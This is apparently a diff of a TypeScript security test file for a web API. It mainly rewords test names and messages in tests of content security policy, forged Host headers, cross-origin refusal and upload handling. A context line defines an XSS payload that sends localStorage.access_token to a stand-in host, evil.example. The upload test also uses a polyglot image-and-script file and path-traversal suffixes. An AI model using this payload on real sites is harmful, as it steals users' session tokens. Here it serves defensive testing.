@@ -40,7 +40,7 @@ const FORGED_HOSTS = [
 ]
 const SCRIPT = '<script>fetch("//evil.example/"+localStorage.access_token)</script>'
 
-/** The policy in the response to a request with this host; undefined if it is rejected before. */
+/** The content security policy in the response for this host; undefined if the host is rejected. */
 const policyFor = (url: string, host: string): Promise<string | undefined> =>
   new Promise((resolve, reject) => {
     request(`${url}/login`, { headers: { host }, setHost: false }, (response) => {
@@ -52,7 +52,7 @@ const policyFor = (url: string, host: string): Promise<string | undefined> =>
   })
 
 const pages: Case = {
-  name: 'Every kind of answer keeps out frames and scripts from strings; the page that evaluated what it was posted is gone',
+  name: 'Every kind of response forbids frames and evaluated strings; the page that evaluated posted data is gone',
   run: async () => {
     const { url, end } = await api()
     for (const path of PATHS) {
@@ -71,10 +71,7 @@ const pages: Case = {
     }
     for (const host of FORGED_HOSTS) {
       const policy = await policyFor(url, host)
-      assert(
-        !policy || /connect-src 'self';/.test(policy),
-        `the host ${host} gets into the policy: ${policy}`,
-      )
+      assert(!policy || /connect-src 'self';/.test(policy), `the host ${host} is in the policy: ${policy}`)
     }
     await end()
     return `${PATHS.length} kinds of answers, ${OLD.length} old addresses, ${FORGED_HOSTS.length} forged hosts`
@@ -82,7 +79,7 @@ const pages: Case = {
 }
 
 const strangers: Case = {
-  name: 'Pages without an origin, and pages of others, do nothing and read nothing',
+  name: 'Pages without an origin, and of other origins, can neither write nor read',
   run: async () => {
     const { url, end } = await api()
     await join(url, 'ana')
@@ -109,7 +106,7 @@ const strangers: Case = {
       statuses.push(answer.status)
       assert(
         answer.status === 403 && !answer.headers.get('access-control-allow-origin'),
-        `a page without an origin is answered ${answer.status}`,
+        `a page without an origin gets ${answer.status}`,
       )
     }
     for (const origin of [
@@ -133,7 +130,7 @@ const strangers: Case = {
     const { data } = (await own.json()) as { data?: { register?: unknown } }
     assert(
       own.status === 200 && data?.register,
-      'the playground itself is refused, or others have made that account before',
+      'the playground itself is refused, or another page has created the account',
     )
     await end()
     return `${statuses.join(', ')} for strangers, 200 for the playground`
@@ -141,7 +138,7 @@ const strangers: Case = {
 }
 
 const uploads: Case = {
-  name: 'A page, a script or a drawing with one is never served as such, whatever it was called when it was uploaded',
+  name: 'An uploaded page, script or SVG is never served as such, whatever its name',
   run: async () => {
     const { url, end } = await api()
     const mallory = await join(url, 'mallory')
@@ -161,18 +158,15 @@ const uploads: Case = {
       assert(status >= 400 && status < 500, `${name} is answered ${status}`)
     }
     const both = new File([new Uint8Array(picture), SCRIPT], 'both.html', { type: 'text/html' })
-    const { status, body } = await mallory.rest.upload('A picture with a page behind it', both)
-    assert(
-      status < 300 || (status >= 400 && status < 500),
-      `a picture with a page behind it is answered ${status}`,
-    )
+    const { status, body } = await mallory.rest.upload('An image with an appended page', both)
+    assert(status < 300 || (status >= 400 && status < 500), `an image with an appended page gets ${status}`)
     const addresses =
       status < 300
         ? Object.values(body as Record<string, unknown>).filter(
             (value): value is string => typeof value === 'string' && value.includes('/files/'),
           )
         : []
-    assert(status >= 300 || addresses.length, 'the picture has no address')
+    assert(status >= 300 || addresses.length, 'the image has no URL')
     for (const address of addresses) {
       for (const more of ['', '&download=page.html', '/../page.html']) {
         const { headers } = await fetch(new URL(address + more, url))
@@ -190,7 +184,7 @@ const uploads: Case = {
   },
 }
 
-/** An installation of its own. */
+/** A separate installation. */
 async function api() {
   const process_ = await start('api', { databaseUrl: await newDatabase() })
   return { url: process_.url, end: () => process_.end() }
